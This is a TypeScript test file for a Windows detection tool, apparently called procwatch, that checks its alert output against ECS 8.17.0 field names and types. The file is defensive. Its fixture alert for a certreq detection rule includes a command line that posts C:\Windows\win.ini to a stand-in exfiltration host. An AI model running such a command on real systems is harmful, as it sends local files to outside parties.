/**
 * The alert documents conform to ECS: every emitted field outside `procwatch.*` (our own) and `winlog.*`
 * (Winlogbeat's namespace) is an ECS 8.17.0 field, its value has that field's ECS type, and fields with ECS
 * expected values (event.kind, event.category, event.type for the category, host.os.type) hold one of them.
 * The table below is written from the ECS 8.17.0 field reference (generated/csv/fields.csv of elastic/ecs):
 * the subset of fields procwatch may emit — adding a field to ecs.ts means adding it here, from the reference.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { toEcsAlert, ECS_VERSION } from '../../src/output/ecs.js';
import type { Alert } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import type { ProcessEvent } from '../../src/model/process.js';
import { runCli, jsonLines } from '../helpers/cli.js';
import { REPO_ROOT } from '../helpers/paths.js';

type EcsType = 'date' | 'keyword' | 'wildcard' | 'long' | 'float';

/** [field, ECS type, ECS normalization "array"] from the ECS 8.17.0 field reference. */
const ECS_FIELDS: ReadonlyArray<readonly [string, EcsType, boolean?]> = [
  ['@timestamp', 'date'],
  ['tags', 'keyword', true],
  ['ecs.version', 'keyword'],
  ['event.category', 'keyword', true],
  ['event.code', 'keyword'],
  ['event.dataset', 'keyword'],
  ['event.id', 'keyword'],
  ['event.kind', 'keyword'],
  ['event.module', 'keyword'],
  ['event.provider', 'keyword'],
  ['event.risk_score', 'float'],
  ['event.severity', 'long'],
  ['event.type', 'keyword', true],
  ['host.name', 'keyword'],
  ['host.os.family', 'keyword'],
  ['host.os.type', 'keyword'],
  ['log.file.path', 'keyword'],
  ['rule.author', 'keyword', true],
  ['rule.description', 'keyword'],
  ['rule.id', 'keyword'],
  ['rule.name', 'keyword'],
  ['rule.reference', 'keyword'],
  ['rule.ruleset', 'keyword'],
  ['threat.framework', 'keyword'],
  ['threat.tactic.id', 'keyword', true],
  ['threat.tactic.name', 'keyword', true],
  ['threat.tactic.reference', 'keyword', true],
  ['threat.technique.id', 'keyword', true],
  ['threat.technique.name', 'keyword', true],
  ['threat.technique.reference', 'keyword', true],
  ['user.domain', 'keyword'],
  ['user.id', 'keyword'],
  ['user.name', 'keyword'],
  ...(['process', 'process.parent'] as const).flatMap((p) => [
    [`${p}.pid`, 'long'] as const,
    [`${p}.entity_id`, 'keyword'] as const,
    [`${p}.executable`, 'keyword'] as const,
    [`${p}.name`, 'keyword'] as const,
    [`${p}.command_line`, 'wildcard'] as const,
    [`${p}.working_directory`, 'keyword'] as const,
    [`${p}.exit_code`, 'long'] as const,
    [`${p}.pe.original_file_name`, 'keyword'] as const,
    [`${p}.pe.description`, 'keyword'] as const,
    [`${p}.pe.product`, 'keyword'] as const,
    [`${p}.pe.company`, 'keyword'] as const,
    [`${p}.pe.file_version`, 'keyword'] as const,
    [`${p}.pe.imphash`, 'keyword'] as const,
    ...['cdhash', 'md5', 'sha1', 'sha256', 'sha384', 'sha512', 'ssdeep', 'tlsh'].map((h) => [`${p}.hash.${h}`, 'keyword'] as const),
  ]),
];
const ECS = new Map(ECS_FIELDS.map(([name, type, array]) => [name, { type, array: array ?? false }]));

/** ECS expected values (event.yml, os.yml of 8.17.0) for the categorisation fields procwatch sets. */
const EVENT_KINDS = ['alert', 'asset', 'enrichment', 'event', 'metric', 'state', 'pipeline_error', 'signal'];
const PROCESS_EVENT_TYPES = ['access', 'change', 'end', 'info', 'start'];
const OS_TYPES = ['linux', 'macos', 'unix', 'windows', 'ios', 'android'];

const CUSTOM_NAMESPACES = ['procwatch', 'winlog'];

/** Leaf paths and values; arrays of objects repeat their members' paths (as Elasticsearch maps them). */
function leaves(value: unknown, path = ''): { path: string; value: unknown }[] {
  if (Array.isArray(value) && value.some((v) => typeof v === 'object' && v !== null)) return value.flatMap((v) => leaves(v, path));
  if (typeof value === 'object' && value !== null && !Array.isArray(value)) {
    return Object.entries(value).flatMap(([k, v]) => leaves(v, path ? `${path}.${k}` : k));
  }
  return [{ path, value }];
}

function typeProblem(type: EcsType, v: unknown): string | undefined {
  switch (type) {
    case 'keyword':
    case 'wildcard':
      return typeof v === 'string' ? undefined : `expected a string, got ${JSON.stringify(v)}`;
    case 'long':
      return Number.isSafeInteger(v) ? undefined : `expected an integer, got ${JSON.stringify(v)}`;
    case 'float':
      return typeof v === 'number' && Number.isFinite(v) ? undefined : `expected a number, got ${JSON.stringify(v)}`;
    case 'date':
      return typeof v === 'string' && !Number.isNaN(Date.parse(v)) && /^\d{4}-\d\d-\d\dT/.test(v) ? undefined : `expected an ISO 8601 date, got ${JSON.stringify(v)}`;
  }
}

/** Every departure from ECS in one document, as "path: problem". */
function ecsViolations(doc: Record<string, unknown>): string[] {
  const problems: string[] = [];
  for (const { path, value } of leaves(doc)) {
    if (CUSTOM_NAMESPACES.includes(path.split('.')[0]!)) continue;
    const field = ECS.get(path);
    if (!field) {
      problems.push(`${path}: not an ECS ${ECS_VERSION} field`);
      continue;
    }
    const values = Array.isArray(value) ? value : [value];
    if (Array.isArray(value) && !field.array && value.length > 1) problems.push(`${path}: several values for a single-valued field`);
    for (const v of values) {
      const p = typeProblem(field.type, v);
      if (p) problems.push(`${path}: ${p}`);
    }
  }
  const event = doc.event as Record<string, unknown>;
  if (!EVENT_KINDS.includes(String(event.kind))) problems.push(`event.kind: ${String(event.kind)} is not an expected value`);
  const categories = (event.category as string[] | undefined) ?? [];
  for (const c of categories) if (c !== 'process') problems.push(`event.category: ${c} not checked here`);
  if (categories.includes('process')) {
    for (const t of (event.type as string[] | undefined) ?? []) if (!PROCESS_EVENT_TYPES.includes(t)) problems.push(`event.type: ${t} is not expected for category process`);
  }
  const os = (doc.host as { os?: { type?: string } }).os;
  if (os?.type !== undefined && !OS_TYPES.includes(os.type)) problems.push(`host.os.type: ${os.type} is not an expected value`);
  return problems;
}

// --- Documents ------------------------------------------------------------------------------------------------------

function winEvent(eventId: number, data: Record<string, string>): WinEvent {
  return {
    system: { provider: 'Microsoft-Windows-Sysmon', eventId, channel: 'Microsoft-Windows-Sysmon/Operational', computer: 'WS01.corp.example', timeCreated: '2024-05-01T10:15:30.123Z', recordId: 4242 },
    data,
    origin: { file: 'C:\\logs\\sysmon.jsonl', line: 17, dialect: 'winlogbeat' },
  } as unknown as WinEvent;
}

/** An alert with every branch of toEcsAlert filled: process and parent with PE data, hashes incl. IMPHASH, token. */
function richAlert(kind: 'start' | 'end'): Alert {
  const event = winEvent(kind === 'start' ? 1 : 5, { Image: 'C:\\Windows\\System32\\certreq.exe' });
  const process: ProcessEvent = {
    kind,
    timestamp: '2024-05-01T10:15:30.123Z',
    host: { name: 'WS01.corp.example' },
    user: { name: 'alice', domain: 'CORP', id: 'S-1-5-21-1-2-3-1001' },
    process: {
      pid: 4242,
      entity_id: '49f1af32-35a0-5a94-0000-0010fe5e0c00',
      executable: 'C:\\Windows\\System32\\certreq.exe',
      name: 'certreq.exe',
      command_line: 'certreq -Post -config https://exfil.example.invalid/ C:\\Windows\\win.ini out.txt',
      pe: { original_file_name: 'CertReq.exe', description: 'CertReq', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', file_version: '10.0.19041.1' },
      hash: { md5: 'aa', sha1: 'bb', sha256: 'cc', imphash: 'dd' },
      working_directory: 'C:\\Users\\alice\\',
      integrity: 'Medium',
      elevation: 'limited',
      ...(kind === 'end' ? { exit_code: 0 } : {}),
      parent: { pid: 1000, name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', command_line: 'cmd.exe', hash: { sha256: 'ee', imphash: 'ff' }, integrity: 'High' },
    },
    source: { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational', event_id: kind === 'start' ? 1 : 5, record_id: 4242 },
    event,
  };
  return {
    id: 'alert-1',
    rule: {
      id: 'certreq-download-upload',
      title: 'Suspicious Certreq Command to Download or Upload',
      description: 'certreq used to move data',
      level: 'high',
      status: 'test',
      author: 'procwatch',
      references: ['https://lolbas-project.github.io/lolbas/Binaries/Certreq/'],
      tags: ['attack.defense-evasion', 'attack.command-and-control', 'attack.t1105', 'attack.t1027'],
      falsepositives: ['PKI administrators'],
      source: 'builtin:certreq-download-upload.yml',
      extra: { nist: ['DE.CM-01'] },
    },
    event,
    process,
    matchedRules: ['certreq-download-upload'],
    context: { severity: 'high', reason: 'POST of a file', certreq: { url: 'https://exfil.example.invalid/' }, incident: { id: 'inc-1', new: true } },
  };
}

test('every field of a fully populated alert document is an ECS field with its ECS type', () => {
  for (const kind of ['start', 'end'] as const) {
    const doc = toEcsAlert(richAlert(kind));
    assert.deepEqual(ecsViolations(doc), [], kind);
  }
});

test('the conformance check fails on what ECS does not have or types differently', () => {
  const doc = toEcsAlert(richAlert('start')) as Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
  doc.process.hash.imphash = 'dd';
  doc.log.file.line = 17;
  doc.process.pid = '4242';
  doc.host.os.type = 'Windows 10';
  doc.event.type = ['creation'];
  assert.deepEqual(ecsViolations(doc).sort(), [
    'event.type: creation is not expected for category process',
    'host.os.type: Windows 10 is not an expected value',
    'log.file.line: not an ECS 8.17.0 field',
    'process.hash.imphash: not an ECS 8.17.0 field',
    'process.pid: expected an integer, got "4242"',
  ]);
});

test('ECS placement: imphash under pe, ecs.version, event.module/dataset, host.os; the rest under procwatch', () => {
  const doc = toEcsAlert(richAlert('start')) as Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
  assert.deepEqual(doc.ecs, { version: '8.17.0' });
  assert.equal(doc.event.module, 'procwatch');
  assert.equal(doc.event.dataset, 'procwatch.alert');
  assert.deepEqual(doc.host, { name: 'WS01.corp.example', os: { type: 'windows', family: 'windows' } });
  assert.deepEqual(doc.process.hash, { md5: 'aa', sha1: 'bb', sha256: 'cc' });
  assert.equal(doc.process.pe.imphash, 'dd');
  assert.equal(doc.process.pe.original_file_name, 'CertReq.exe');
  assert.deepEqual(doc.process.parent.hash, { sha256: 'ee' });
  assert.deepEqual(doc.process.parent.pe, { imphash: 'ff' });
  assert.equal(doc.process.Ext, undefined);
  assert.deepEqual(doc.log, { file: { path: 'C:\\logs\\sysmon.jsonl' } });
  assert.deepEqual(doc.procwatch.log, { line: 17 });
  assert.deepEqual(doc.procwatch.process, { integrity_level: 'Medium', token_elevation_type: 'limited', parent: { integrity_level: 'High' } });
});

test('the documents procwatch scan writes for the repository samples conform to ECS', async () => {
  const r = await runCli(['scan', join(REPO_ROOT, 'samples'), '--format', 'jsonl', '--quiet']);
  assert.ok(r.code === 0 || r.code === 1, r.stderr);
  const docs = jsonLines(r.stdout);
  assert.ok(docs.length > 0, 'the samples raise alerts');
  for (const d of docs) assert.deepEqual(ecsViolations(d), [], `${d.rule?.id} ${d.log?.file?.path}`);
});
